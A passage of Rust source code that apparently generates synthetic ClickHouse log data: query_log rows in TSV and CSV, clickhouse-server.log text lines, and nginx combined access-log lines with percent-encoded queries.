                Format::Tsv => {
                    header.extend_from_slice(COLUMNS_26.join("\t").as_bytes());
                    header.push(b'\n');
                }
                Format::Csv => {
                    // CSV spreads the transaction_id tuple over three named fields.
                    let names: Vec<String> = COLUMNS_26
                        .iter()
                        .flat_map(|c| match *c {
                            "transaction_id" => (1..=3).map(|i| format!("\"{c}.{i}\"")).collect(),
                            _ => vec![format!("\"{c}\"")],
                        })
                        .collect();
                    header.extend_from_slice(names.join(",").as_bytes());
                    header.push(b'\n');
                }
                Format::Json => {}
            }
            let format = o.format;
            drive(o, w, &header, |buf, e, rng, later| {
                if e.exception_code != 0 {
                    write_row(buf, format, &row(e, "ExceptionBeforeStart", rng));
                    return;
                }
                write_row(buf, format, &row(e, "QueryStart", rng));
                let mut fin = Vec::new();
                write_row(&mut fin, format, &row(e, "QueryFinish", rng));
                later.push((e.start_us + e.duration_ms as i64 * 1000, fin));
            })
        }
        Kind::TextLog => drive(o, w, b"", text_log),
        Kind::AccessLog => drive(o, w, b"", |buf, e, _, _| access_log(buf, e)),
    }
}

fn text_time(us: i64) -> String {
    let (y, m, d, h, mi, s) = civil(us.div_euclid(1_000_000));
    format!(
        "{y:04}.{m:02}.{d:02} {h:02}:{mi:02}:{s:02}.{:06}",
        us.rem_euclid(1_000_000)
    )
}

/// `clickhouse-server.log` lines of one query: the session, `executeQuery`, the summary.
fn text_log(buf: &mut Vec<u8>, e: &Exec, rng: &mut Rng, later: &mut Vec<(i64, Vec<u8>)>) {
    let tid = 20_000 + rng.below(999);
    let t = e.start_us;
    let session = if e.http {
        "HTTP-Session"
    } else {
        "TCP-Session"
    };
    let sid = rng.uuid();
    let _ = writeln!(
        Buf(buf),
        "{} [ {tid} ] {{}} <Debug> {session}-{sid}: Authenticating user '{}' from [::ffff:{}]:{}",
        text_time(t - 300),
        e.user,
        e.ip,
        e.port
    );
    let _ = writeln!(Buf(buf), "{} [ {tid} ] {{}} <Debug> {session}-{sid}: {sid} Authenticated with global context as user {}", text_time(t - 200), rng.uuid());
    let query = e.query.replace('\n', " ");
    let _ = writeln!(Buf(buf), "{} [ {tid} ] {{{}}} <Debug> executeQuery: (from [::ffff:{}]:{}, user: {}) (query 1, line 1) {query} (stage: Complete)", text_time(t), e.query_id, e.ip, e.port, e.user);
    let end = t + e.duration_ms as i64 * 1000;
    let mut tail = Vec::new();
    if e.exception_code != 0 {
        let _ = writeln!(Buf(&mut tail), "{} [ {tid} ] {{{}}} <Error> executeQuery: {} (from [::ffff:{}]:{}) (query 1, line 1) (in query: {query})", text_time(end), e.query_id, e.exception, e.ip, e.port);
    } else {
        let _ = writeln!(Buf(&mut tail), "{} [ {tid} ] {{{}}} <Debug> executeQuery: Read {} rows, {} B in {:.6} sec., {} rows/sec., {} B/sec.", text_time(end), e.query_id, e.read_rows, e.read_bytes, e.duration_ms as f64 / 1000.0, e.read_rows * 1000 / e.duration_ms.max(1), e.read_bytes * 1000 / e.duration_ms.max(1));
        let _ = writeln!(
            Buf(&mut tail),
            "{} [ {tid} ] {{{}}} <Debug> MemoryTracker: Query peak memory usage: {} B.",
            text_time(end + 10),
            e.query_id,
            e.memory
        );
    }
    later.push((end, tail));
}

fn percent_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 2);
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~(),*".contains(&b) {
            out.push(b as char);
        } else {
            let _ = write!(out, "%{b:02X}");
        }
    }
    out
}

const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

/// One nginx `combined` line for an HTTP query (TCP clients appear as their HTTP twins).
fn access_log(buf: &mut Vec<u8>, e: &Exec) {
    let (y, m, d, h, mi, s) = civil(e.start_us.div_euclid(1_000_000));
    let method = if e.kind == "Insert" { "POST" } else { "GET" };
    let status = if e.exception_code != 0 { 404 } else { 200 };
    // Clients authenticate with HTTP Basic (clickhouse-go, Grafana, requests' `auth=`), which
    // nginx logs as `$remote_user`. Header credentials (`X-ClickHouse-User`) would show as `-`
    // in `combined`, indistinguishable from the passwordless `default` (see README), so only
    // `default` itself appears without a user here.
    let remote_user = if e.user == "default" {
        "-"
    } else {
        e.user.as_str()
    };
    let agent = if e.agent.is_empty() {
        "clickhouse-client/26.9"
    } else {
        &e.agent
    };
    let _ = writeln!(
        Buf(buf),
        "{} - {remote_user} [{d:02}/{}/{y}:{h:02}:{mi:02}:{s:02} +0000] \"{method} /?query={} HTTP/1.1\" {status} {} \"-\" \"{agent}\"",
        e.ip,
        MONTHS[(m - 1) as usize],
        percent_encode(&e.query),
        e.result_bytes
    );
}
